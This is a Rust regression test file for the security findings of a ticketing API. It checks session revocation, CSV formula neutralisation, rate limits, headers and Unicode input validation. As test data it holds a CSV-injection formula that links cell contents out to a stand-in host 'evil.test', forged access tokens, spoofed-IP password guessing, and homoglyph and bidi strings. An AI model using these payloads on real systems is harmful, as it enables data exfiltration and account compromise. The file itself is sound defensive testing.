//! Issue 16: what a black-box security test found, each case pinned so it stays fixed.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use qifu::clock::Clock;
use qifu::domain::role::Role;
use serde_json::{Value, json};

use reqwest::Method;

use super::helpers::{
    CREDIT_CODES, Id, NEW_PASSWORD, PASSWORD, Resp, Session, TestApp, action_path, jwt_keys, poll,
    reset_token,
};

fn claims(token: &str) -> Value {
    let payload = token.split('.').nth(1).expect("a JWT");
    serde_json::from_slice(&URL_SAFE_NO_PAD.decode(payload).expect("base64url")).expect("json")
}

/// An access token signed the way the app signs them, for a chosen session and issue time.
fn sign(user_id: &str, session_id: &str, role: Role, issued_at: i64) -> String {
    jwt_keys("qifu-api")
        .issue(user_id, session_id, role, issued_at, 600)
        .unwrap()
}

async fn alive(app: &TestApp, token: &str) -> bool {
    let r = app.get("/me", Some(token)).await;
    assert!(
        matches!(r.status, 200 | 401),
        "unexpected /me answer: {}",
        r.body
    );
    r.status == 200
}

/// The reset token mailed to `address`.
async fn mailed_reset_token(app: &TestApp, address: &str) -> String {
    let mail = app
        .wait_mail(address, "the reset mail", |m| {
            m.subject.contains("重置密码")
        })
        .await;
    reset_token(&mail.text)
}

async fn two_sessions(app: &TestApp) -> (Session, Session) {
    let first = app.with_enterprise(0, "boss@example.com").await;
    let second = app.login("boss@example.com", PASSWORD).await;
    assert_ne!(claims(&first.token)["sid"], claims(&second.token)["sid"]);
    (first, second)
}

// ---------------------------------------------------------------------------------------------
// 6. Sessions end what they should
// ---------------------------------------------------------------------------------------------

#[actix_web::test]
async fn logout_kills_the_access_tokens_of_that_session_only() {
    let app = TestApp::spawn().await;
    let (first, second) = two_sessions(&app).await;
    let renewed = app.refresh(&first.refresh).await.expect(200);
    let renewed_access = renewed.body["access_token"].as_str().unwrap().to_owned();
    assert_eq!(claims(&renewed_access)["sid"], claims(&first.token)["sid"]);
    assert!(alive(&app, &first.token).await);

    app.post(
        "/auth/logout",
        None,
        json!({"refresh_token": renewed.body["refresh_token"]}),
    )
    .await
    .expect(204);
    assert!(!alive(&app, &first.token).await);
    assert!(!alive(&app, &renewed_access).await);
    assert!(alive(&app, &second.token).await);
}

#[actix_web::test]
async fn a_password_change_kills_every_access_token_of_the_user() {
    let app = TestApp::spawn().await;
    let (first, second) = two_sessions(&app).await;
    app.post(
        "/me/password",
        first.t(),
        json!({"current_password": PASSWORD, "new_password": NEW_PASSWORD}),
    )
    .await
    .expect(204);
    assert!(!alive(&app, &first.token).await);
    assert!(!alive(&app, &second.token).await);
    let fresh = app.login("boss@example.com", NEW_PASSWORD).await;
    assert!(alive(&app, &fresh.token).await);
}

#[actix_web::test]
async fn a_password_reset_kills_every_access_token_of_the_user() {
    let app = TestApp::spawn().await;
    let (first, second) = two_sessions(&app).await;
    app.post(
        "/auth/password-reset",
        None,
        json!({"email": "boss@example.com"}),
    )
    .await
    .expect(202);
    let token = mailed_reset_token(&app, "boss@example.com").await;
    app.post(
        "/auth/password-reset/confirm",
        None,
        json!({"token": token, "new_password": NEW_PASSWORD}),
    )
    .await
    .expect(204);
    assert!(!alive(&app, &first.token).await);
    assert!(!alive(&app, &second.token).await);
}

#[actix_web::test]
async fn tokens_issued_before_the_last_credential_change_are_refused_even_in_an_open_session() {
    let app = TestApp::spawn().await;
    let s = app.with_enterprise(0, "boss@example.com").await;
    app.post(
        "/me/password",
        s.t(),
        json!({"current_password": PASSWORD, "new_password": NEW_PASSWORD}),
    )
    .await
    .expect(204);
    let fresh = app.login("boss@example.com", NEW_PASSWORD).await;
    let sid = claims(&fresh.token)["sid"].as_str().unwrap().to_owned();
    let now = app.clock.now_utc().timestamp();
    // Control: the same session, signed now, works; signed before the change, it does not.
    assert!(alive(&app, &sign(s.id(), &sid, Role::Enterprise, now)).await);
    assert!(!alive(&app, &sign(s.id(), &sid, Role::Enterprise, now - 120)).await);
}

#[actix_web::test]
async fn a_session_id_must_be_the_users_own_and_exist() {
    let app = TestApp::spawn().await;
    let boss = app.with_enterprise(0, "boss@example.com").await;
    let other = app.with_enterprise(1, "other@example.com").await;
    let now = app.clock.now_utc().timestamp();
    let own = claims(&boss.token)["sid"].as_str().unwrap().to_owned();
    let theirs = claims(&other.token)["sid"].as_str().unwrap().to_owned();
    assert!(alive(&app, &sign(boss.id(), &own, Role::Enterprise, now)).await);
    assert!(!alive(&app, &sign(boss.id(), &theirs, Role::Enterprise, now)).await);
    assert!(
        !alive(
            &app,
            &sign(boss.id(), "no-such-session", Role::Enterprise, now)
        )
        .await
    );
}

#[actix_web::test]
async fn refresh_token_reuse_kills_the_access_tokens_of_the_family() {
    let app = TestApp::spawn().await;
    let s = app.with_enterprise(0, "boss@example.com").await;
    let renewed = app.refresh(&s.refresh).await.expect(200);
    let renewed_access = renewed.body["access_token"].as_str().unwrap().to_owned();
    assert!(alive(&app, &renewed_access).await);
    // The first refresh token, presented again: stolen or replayed.
    app.refresh(&s.refresh).await.problem(401, "unauthorized");
    assert!(!alive(&app, &s.token).await);
    assert!(!alive(&app, &renewed_access).await);
}

#[actix_web::test]
async fn suspension_revokes_sessions_so_reactivation_does_not_revive_them() {
    let app = TestApp::spawn().await;
    let admin = app.with_admin("admin@example.com").await;
    let s = app.with_enterprise(0, "boss@example.com").await;
    let enterprise = s.user["enterprise_id"].as_str().unwrap().to_owned();
    let path = format!("/enterprises/{enterprise}");
    app.patch(&path, admin.t(), json!({"status": "suspended"}))
        .await
        .expect(200);
    app.patch(&path, admin.t(), json!({"status": "active"}))
        .await
        .expect(200);
    assert!(!alive(&app, &s.token).await);
    app.refresh(&s.refresh).await.problem(401, "unauthorized");
    let again = app.login("boss@example.com", PASSWORD).await;
    assert!(alive(&app, &again.token).await);
}

#[actix_web::test]
async fn deactivation_revokes_sessions_so_reactivation_does_not_revive_them() {
    let app = TestApp::spawn().await;
    let admin = app.with_admin("admin@example.com").await;
    let dept = app.with_department(&admin, "行政审批局").await;
    let official = app
        .with_official(&admin, "official@example.com", &dept)
        .await;
    let path = format!("/users/{}", official.id());
    app.patch(&path, admin.t(), json!({"active": false}))
        .await
        .expect(200);
    app.patch(&path, admin.t(), json!({"active": true}))
        .await
        .expect(200);
    assert!(!alive(&app, &official.token).await);
    app.refresh(&official.refresh)
        .await
        .problem(401, "unauthorized");
}

// ---------------------------------------------------------------------------------------------
// 1. CSV formula injection
// ---------------------------------------------------------------------------------------------

async fn register_named(app: &TestApp, n: usize, name: &str, email: &str) -> Session {
    let body = json!({
        "enterprise": {"name": name, "credit_code": CREDIT_CODES[n]},
        "user": {"name": "Filer", "email": email, "password": PASSWORD}
    });
    app.post("/auth/register", None, body).await.expect(201);
    app.login(email, PASSWORD).await
}

#[actix_web::test]
async fn csv_exports_neutralize_formulas_in_text_cells_and_leave_numbers_alone() {
    let app = TestApp::spawn().await;
    let admin = app.with_admin("admin@example.com").await;
    let dept = app.with_department(&admin, "=1+1").await;
    let category = app.with_category(&admin, "Permits", &dept, 48).await;
    let names = [
        r#"=HYPERLINK("http://evil.test/?d="&B2,"Open")"#,
        "+SUM(A1:A9)",
        "-2+3",
        "@SUM(A1)",
    ];
    for (n, name) in names.iter().enumerate() {
        let s = register_named(&app, n, name, &format!("e{n}@example.com")).await;
        let body = json!({"title": "Help", "description": "details", "category_id": category});
        app.post("/tickets", s.t(), body).await.expect(201);
    }
    let labels = |text: &str| -> Vec<String> {
        let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        reader.records().map(|r| r.unwrap()[1].to_owned()).collect()
    };
    let r = app
        .get("/stats/breakdown?by=enterprise&format=csv", admin.t())
        .await
        .expect(200);
    let mut got = labels(r.body.as_str().unwrap());
    got.sort();
    let mut want: Vec<String> = names.iter().map(|n| format!("'{n}")).collect();
    want.sort();
    assert_eq!(got, want);
    // Figures are numbers, not text: untouched.
    assert!(r.body.as_str().unwrap().contains(",1,1,0,"));

    let r = app
        .get("/stats/breakdown?by=department&format=csv", admin.t())
        .await
        .expect(200);
    assert_eq!(labels(r.body.as_str().unwrap()), vec!["'=1+1".to_owned()]);
}

// ---------------------------------------------------------------------------------------------
// 2. Bounded metrics labels
// ---------------------------------------------------------------------------------------------

#[actix_web::test]
async fn invented_methods_and_paths_do_not_grow_the_metrics() {
    let app = TestApp::spawn().await;
    for n in 0..30 {
        let method = reqwest::Method::from_bytes(format!("X{n}FOO").as_bytes()).unwrap();
        app.send(
            app.client
                .request(method, format!("{}/healthz", app.address)),
        )
        .await;
        app.get(&format!("/no-such-path-{n}"), None)
            .await
            .problem(404, "not_found");
    }
    let metrics = app
        .send(app.client.get(format!("{}/metrics", app.address)))
        .await
        .expect(200);
    let text = metrics.body.as_str().unwrap();
    assert!(
        !text.contains("X1FOO") && !text.contains("no-such-path"),
        "{text}"
    );
    assert!(
        text.contains(
            "qifu_http_requests_total{method=\"other\",route=\"/healthz\",status=\"405\"} 30"
        ),
        "{text}"
    );
    assert!(
        text.contains("qifu_http_requests_total{method=\"GET\",route=\"other\",status=\"404\"} 30"),
        "{text}"
    );
}

// ---------------------------------------------------------------------------------------------
// 10. Headers
// ---------------------------------------------------------------------------------------------

#[actix_web::test]
async fn token_answers_are_not_stored_and_nothing_is_sniffed_or_framed() {
    let app = TestApp::spawn().await;
    let s = app.with_enterprise(0, "boss@example.com").await;
    let login = app
        .post(
            "/auth/login",
            None,
            json!({"email": "boss@example.com", "password": PASSWORD}),
        )
        .await
        .expect(200);
    let renewed = app.refresh(&s.refresh).await.expect(200);
    for r in [&login, &renewed] {
        assert_eq!(r.header("cache-control").as_deref(), Some("no-store"));
    }
    let me = app.get("/me", s.t()).await.expect(200);
    let missing = app
        .get("/no-such-path", None)
        .await
        .problem(404, "not_found");
    let docs = app
        .send(app.client.get(format!("{}/docs/", app.address)))
        .await
        .expect(200);
    let health = app
        .send(app.client.get(format!("{}/healthz", app.address)))
        .await
        .expect(200);
    for r in [&login, &renewed, &me, &missing, &docs, &health] {
        assert_eq!(
            r.header("x-content-type-options").as_deref(),
            Some("nosniff")
        );
    }
    let csp = docs
        .header("content-security-policy")
        .expect("a CSP on /docs");
    assert!(csp.contains("frame-ancestors 'none'") && csp.contains("script-src 'self'"));
    assert!(!csp.contains("unsafe-eval"));
    assert_eq!(docs.header("x-frame-options").as_deref(), Some("DENY"));
    assert!(health.header("content-security-policy").is_none());
}

// ---------------------------------------------------------------------------------------------
// 11. Smaller things
// ---------------------------------------------------------------------------------------------

#[actix_web::test]
async fn a_weak_if_match_never_matches() {
    let app = TestApp::spawn().await;
    let admin = app.with_admin("admin@example.com").await;
    let desk = app
        .with_desk(&admin, "行政审批局", "Permits", 48, &["off@example.com"])
        .await;
    let ent = app.with_enterprise(0, "boss@example.com").await;
    let t = app.file_ticket(&ent, "Help", &desk.category).await;
    let version = t["version"].as_i64().unwrap();
    let weak = app
        .request(reqwest::Method::POST, &action_path(&t, "cancel"), ent.t())
        .header("If-Match", format!("W/\"{version}\""))
        .json(&json!({}));
    app.send(weak).await.problem(412, "precondition_failed");
    let strong = app
        .request(reqwest::Method::POST, &action_path(&t, "cancel"), ent.t())
        .header("If-Match", format!("\"{version}\""))
        .json(&json!({}));
    app.send(strong).await.expect(200);
}

#[actix_web::test]
async fn dispatch_notes_stay_with_staff() {
    let app = TestApp::spawn().await;
    let admin = app.with_admin("admin@example.com").await;
    let desk = app
        .with_desk(&admin, "行政审批局", "Permits", 48, &["off@example.com"])
        .await;
    let official = &desk.officials[0];
    let ent = app.with_enterprise(0, "boss@example.com").await;
    let t = app.file_ticket(&ent, "Help", &desk.category).await;
    app.act(
        official,
        &t,
        "return",
        json!({"note": "misrouted: RETURN-SECRET"}),
    )
    .await
    .expect(200);
    app.act(
        &admin,
        &t,
        "assign",
        json!({"department_id": desk.department, "note": "ASSIGN-SECRET"}),
    )
    .await
    .expect(200);
    let notes = |events: &[Value]| -> String {
        events
            .iter()
            .map(|e| e["note"].as_str().unwrap_or_default().to_owned())
            .collect()
    };
    let seen_by_enterprise = app.timeline(&ent, &t).await;
    let kinds: Vec<&str> = seen_by_enterprise
        .iter()
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    assert!(
        kinds.contains(&"returned") && kinds.contains(&"assigned"),
        "{kinds:?}"
    );
    assert!(!notes(&seen_by_enterprise).contains("SECRET"));
    let seen_by_staff = notes(&app.timeline(&admin, &t).await);
    assert!(seen_by_staff.contains("RETURN-SECRET") && seen_by_staff.contains("ASSIGN-SECRET"));
    // The official hears of the assignment with its note; the enterprise's mail has none.
    app.wait_mail("off@example.com", "the assignment mail", |m| {
        m.text.contains("ASSIGN-SECRET")
    })
    .await;
    // Both status changes reach the filer (returned, then assigned), without their notes.
    let mails = poll(|| async {
        let mails = app.smtp.to("boss@example.com");
        if mails.len() >= 2 {
            Ok(mails)
        } else {
            Err(format!("two status mails to the filer, got {mails:?}"))
        }
    })
    .await;
    for m in mails {
        assert!(
            !m.text.contains("SECRET") && !m.html.contains("SECRET"),
            "{m:?}"
        );
    }
}

#[actix_web::test]
async fn enterprises_cannot_comment_on_closed_or_cancelled_tickets_but_staff_notes_still_work() {
    let app = TestApp::spawn().await;
    let admin = app.with_admin("admin@example.com").await;
    let desk = app
        .with_desk(&admin, "行政审批局", "Permits", 48, &["off@example.com"])
        .await;
    let ent = app.with_enterprise(0, "boss@example.com").await;
    let t = app.file_ticket(&ent, "Help", &desk.category).await;
    app.comment(&ent, &t, json!({"body": "still open"}))
        .await
        .expect(201);
    app.act(&ent, &t, "cancel", json!({})).await.expect(200);
    app.comment(&ent, &t, json!({"body": "after cancel"}))
        .await
        .problem(409, "conflict");
    app.comment(
        &desk.officials[0],
        &t,
        json!({"body": "called them", "kind": "internal_note"}),
    )
    .await
    .expect(201);
}

#[actix_web::test]
async fn head_answers_on_get_routes_without_a_body() {
    let app = TestApp::spawn().await;
    let ent = app.with_enterprise(0, "boss@example.com").await;
    for path in ["/me", "/categories"] {
        let r = app
            .send(app.request(reqwest::Method::HEAD, path, ent.t()))
            .await
            .expect(200);
        assert_eq!(r.body, Value::String(String::new()), "{path}");
    }
    let r = app
        .send(app.client.head(format!("{}/healthz", app.address)))
        .await
        .expect(200);
    assert_eq!(r.body, Value::String(String::new()));
}

#[actix_web::test]
async fn an_admin_cannot_carry_a_department() {
    let app = TestApp::spawn().await;
    let admin = app.with_admin("admin@example.com").await;
    let dept = app.with_department(&admin, "行政审批局").await;
    let r = app
        .post(
            "/users",
            admin.t(),
            json!({"email": "a2@example.com", "name": "A2", "role": "admin",
                   "department_id": dept, "password": PASSWORD}),
        )
        .await
        .problem(422, "validation_failed");
    assert_eq!(r.body["errors"][0]["field"], "department_id");
    let other = app
        .post(
            "/users",
            admin.t(),
            json!({"email": "a3@example.com", "name": "A3", "role": "admin", "password": PASSWORD}),
        )
        .await
        .expect(201);
    app.patch(
        &format!("/users/{}", other.body.id()),
        admin.t(),
        json!({"department_id": dept}),
    )
    .await
    .problem(422, "validation_failed");
}

// ---------------------------------------------------------------------------------------------
// 3. Mail floods, 4. current-password guessing, 7. lock-out across addresses, 11. quotas
// ---------------------------------------------------------------------------------------------

async fn reset_mails(app: &TestApp, to: &str) -> usize {
    app.outbox_rows()
        .await
        .iter()
        .filter(|m| m.recipient == to && m.subject.contains("重置密码"))
        .count()
}

#[actix_web::test]
async fn reset_mail_is_throttled_per_address_and_per_client_without_changing_the_answer() {
    let app = TestApp::spawn_with(json!({"limits": {"mail_per_address_per_hour": 2}})).await;
    app.with_enterprise(0, "target@example.com").await;
    for _ in 0..5 {
        app.post(
            "/auth/password-reset",
            None,
            json!({"email": "target@example.com"}),
        )
        .await
        .expect(202);
    }
    assert_eq!(reset_mails(&app, "target@example.com").await, 2);

    // An hour later the address gets mail again.
    app.advance_hours(1);
    let again = json!({"email": "TARGET@example.com"});
    app.post("/auth/password-reset", None, again.clone())
        .await
        .expect(202);
    assert_eq!(reset_mails(&app, "target@example.com").await, 3);

    // One client spraying addresses (known or not) spends its own quota: ten times the
    // per-address one, counted the same for unknown addresses.
    app.with_enterprise(1, "other@example.com").await;
    for i in 0..19 {
        let body = json!({"email": format!("nobody{i}@example.com")});
        app.post("/auth/password-reset", None, body)
            .await
            .expect(202);
    }
    app.post(
        "/auth/password-reset",
        None,
        json!({"email": "other@example.com"}),
    )
    .await
    .expect(202);
    assert_eq!(
        reset_mails(&app, "other@example.com").await,
        0,
        "the client had spent its 20 mails this hour"
    );
}

#[actix_web::test]
async fn current_password_guessing_is_throttled_like_login() {
    let app = TestApp::spawn().await;
    let user = app.with_enterprise(0, "guess@example.com").await;
    let guess = |current: &str| json!({"current_password": current, "new_password": NEW_PASSWORD});
    for _ in 0..5 {
        app.post("/me/password", user.t(), guess("wrong-password-1"))
            .await
            .problem(422, "validation_failed");
    }
    let locked = app
        .post("/me/password", user.t(), guess(PASSWORD))
        .await
        .problem(429, "rate_limited");
    let wait: u64 = locked.header("retry-after").unwrap().parse().unwrap();
    assert!((1..=60).contains(&wait), "Retry-After {wait}");
    assert_eq!(
        app.try_login("guess@example.com", PASSWORD).await.status,
        200,
        "the password did not change while locked"
    );

    app.advance_hours(1);
    let fresh = app.login_as("guess@example.com").await;
    app.post("/me/password", fresh.t(), guess(PASSWORD))
        .await
        .expect(204);
}

#[actix_web::test]
async fn guesses_spread_over_many_addresses_still_lock_the_account() {
    let app = TestApp::spawn_with(json!({"server": {"trust_forwarded_for": true}})).await;
    app.with_enterprise(0, "spread@example.com").await;
    let from = |ip: String, password: &str| {
        app.request(Method::POST, "/auth/login", None)
            .header("x-forwarded-for", ip)
            .json(&json!({"email": "spread@example.com", "password": password}))
    };
    // Four wrong guesses from each of five addresses: no address reaches its own limit of five.
    for n in 1..=5 {
        for _ in 0..4 {
            let r = app
                .send(from(format!("198.51.100.{n}"), "wrong-guess-1"))
                .await;
            assert_eq!(r.status, 401, "{}", r.body);
        }
    }
    let r = app.send(from("203.0.113.9".into(), PASSWORD)).await;
    assert_eq!(
        r.status, 429,
        "the account is locked everywhere: {}",
        r.body
    );
    assert!(r.header("retry-after").is_some());

    // The user can still get in once the lock-out runs out, and success clears the count.
    app.advance_hours(1);
    let r = app.send(from("203.0.113.9".into(), PASSWORD)).await;
    assert_eq!(r.status, 200, "{}", r.body);
}

#[actix_web::test]
async fn registrations_per_address_and_filings_per_user_are_limited() {
    let app = TestApp::spawn_with(json!({
        "limits": {"register_per_hour": 2, "file_per_minute": 2}
    }))
    .await;
    let admin = app.with_admin("admin@example.gov.cn").await;
    let desk = app
        .with_desk(&admin, "Dept", "Cat", 48, &["o@example.gov.cn"])
        .await;
    let filer = app.with_enterprise(0, "one@example.com").await;
    app.with_enterprise(1, "two@example.com").await;
    let third = json!({
        "enterprise": {"name": "Third", "credit_code": CREDIT_CODES[2]},
        "user": {"name": "Third", "email": "three@example.com", "password": PASSWORD}
    });
    let refused = app
        .post("/auth/register", None, third.clone())
        .await
        .problem(429, "rate_limited");
    assert!(refused.header("retry-after").is_some());
    assert_eq!(
        app.try_login("three@example.com", PASSWORD).await.status,
        401,
        "a refused registration creates nothing"
    );

    let body =
        |title: &str| json!({"title": title, "description": "d", "category_id": desk.category});
    let first = app
        .send(
            app.request(Method::POST, "/tickets", filer.t())
                .header("idempotency-key", "k1")
                .json(&body("first")),
        )
        .await
        .expect(201);
    app.post("/tickets", filer.t(), body("second"))
        .await
        .expect(201);
    app.post("/tickets", filer.t(), body("third"))
        .await
        .problem(429, "rate_limited");
    // A replay is not a new filing, so it is answered even with the quota spent.
    let replay = app
        .send(
            app.request(Method::POST, "/tickets", filer.t())
                .header("idempotency-key", "k1")
                .json(&body("first")),
        )
        .await
        .expect(201);
    assert_eq!(replay.body["id"], first.body["id"]);
    let listed = app.get("/tickets?limit=10", filer.t()).await.expect(200);
    assert_eq!(listed.items().len(), 2, "the refused filing left nothing");

    app.advance_hours(1);
    app.post("/auth/register", None, third).await.expect(201);
    app.post("/tickets", filer.t(), body("later"))
        .await
        .expect(201);
}

// ---------------------------------------------------------------------------------------------
// 8. Invisible and look-alike text
// ---------------------------------------------------------------------------------------------

fn registration(n: usize, email: &str, user_name: &str) -> Value {
    json!({
        "enterprise": {"name": format!("Enterprise {n}"), "credit_code": CREDIT_CODES[n]},
        "user": {"name": user_name, "email": email, "password": PASSWORD}
    })
}

fn refused_field(r: &Resp) -> String {
    r.body["errors"][0]["field"]
        .as_str()
        .unwrap_or("")
        .to_owned()
}

#[actix_web::test]
async fn look_alike_emails_meet_the_account_they_imitate_or_are_refused() {
    let app = TestApp::spawn().await;
    app.with_enterprise(0, "enterprise1@example.com").await;
    let r = app
        .post(
            "/auth/register",
            None,
            registration(1, "ｅnterprise1@Example.com", "Copy"),
        )
        .await
        .expect(409);
    assert_eq!(r.body["type"], "/problems/email-taken");
    app.login("ＥＮＴＥＲＰＲＩＳＥ1@example.com", PASSWORD)
        .await;

    for email in [
        "user\u{200b}@example.com",
        "\u{202e}moc.elpmaxe@resu",
        "İnfo@example.com",
        "аdmin@example.com",
        "nul\0@example.com",
    ] {
        let r = app
            .post("/auth/register", None, registration(1, email, "Someone"))
            .await
            .problem(422, "validation_failed");
        assert_eq!(refused_field(&r), "user.email", "{email:?}: {}", r.body);
    }
}

#[actix_web::test]
async fn names_and_titles_with_control_format_or_no_visible_characters_are_refused() {
    let app = TestApp::spawn().await;
    let admin = app.with_admin("admin@example.gov.cn").await;
    for name in ["\u{202e}\u{200b}", "   ", "Li\0Ming", "Wang\u{2066}"] {
        let body = json!({"email": "staff@example.gov.cn", "name": name, "role": "admin",
                          "password": PASSWORD});
        let r = app
            .post("/users", admin.t(), body)
            .await
            .problem(422, "validation_failed");
        assert_eq!(refused_field(&r), "name", "{name:?}: {}", r.body);
    }
    let desk = app
        .with_desk(&admin, "Dept", "Cat", 48, &["o@example.gov.cn"])
        .await;
    let filer = app.with_enterprise(0, "filer@example.com").await;
    for (title, description, field) in [
        ("NUL\0title", "fine", "title"),
        ("\u{200b}\u{200b}", "fine", "title"),
        ("bidi \u{202e}txt.exe", "fine", "title"),
        ("fine", "nul \0 in text", "description"),
        ("fine", "\u{2067}reordered", "description"),
    ] {
        let r = app
            .post(
                "/tickets",
                filer.t(),
                json!({"title": title, "description": description, "category_id": desk.category}),
            )
            .await
            .problem(422, "validation_failed");
        assert_eq!(
            refused_field(&r),
            field,
            "{title:?}/{description:?}: {}",
            r.body
        );
    }
    assert_eq!(
        app.get("/tickets", filer.t())
            .await
            .expect(200)
            .items()
            .len(),
        0
    );
    // Line breaks and emoji joiners are ordinary in a description.
    app.post(
        "/tickets",
        filer.t(),
        json!({"title": "路灯坏了", "description": "第一行\n第二行 👨\u{200d}👩\u{200d}👧",
               "category_id": desk.category}),
    )
    .await
    .expect(201);
}

// ---------------------------------------------------------------------------------------------
// 9. Secrets at rest
// ---------------------------------------------------------------------------------------------

#[actix_web::test]
async fn a_sent_reset_mail_keeps_no_link_and_sent_mail_expires() {
    let app = TestApp::spawn().await;
    app.with_enterprise(0, "keep@example.com").await;
    app.post(
        "/auth/password-reset",
        None,
        json!({"email": "keep@example.com"}),
    )
    .await
    .expect(202);
    let token = mailed_reset_token(&app, "keep@example.com").await;
    let row = poll(|| async {
        let rows = app.outbox_rows().await;
        rows.into_iter()
            .find(|m| m.recipient == "keep@example.com" && m.status.as_str() == "sent")
            .ok_or_else(|| "the reset mail is not sent yet".to_owned())
    })
    .await;
    assert!(!row.subject.is_empty(), "the subject stays");
    for body in [&row.text_body, &row.html_body] {
        assert!(!body.contains(&token), "the link is gone from the outbox");
        assert_eq!(body, qifu::store::outbox::CLEARED);
    }

    let before = app.outbox_rows().await.len();
    app.advance_hours(24 * 89);
    app.run_jobs().await;
    assert_eq!(app.outbox_rows().await.len(), before, "kept for 90 days");
    app.advance_hours(24 * 2);
    app.run_jobs().await;
    assert!(
        app.outbox_rows()
            .await
            .iter()
            .all(|m| m.status.as_str() != "sent"),
        "sent mail past its retention is deleted"
    );
}

#[cfg(unix)]
#[actix_web::test]
async fn the_database_and_the_mail_folder_are_created_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let app = TestApp::spawn_with(json!({
        "database": {"url": format!("sqlite://{}", data.join("qifu.db").display())},
        "mail": {"transport": "file", "file_dir": data.join("mail")},
    }))
    .await;
    app.with_enterprise(0, "files@example.com").await;
    assert_eq!(mode(&data), 0o700);
    assert_eq!(mode(&data.join("mail")), 0o700);
    for file in ["qifu.db", "qifu.db-wal"] {
        assert_eq!(mode(&data.join(file)), 0o600, "{file}");
    }
}
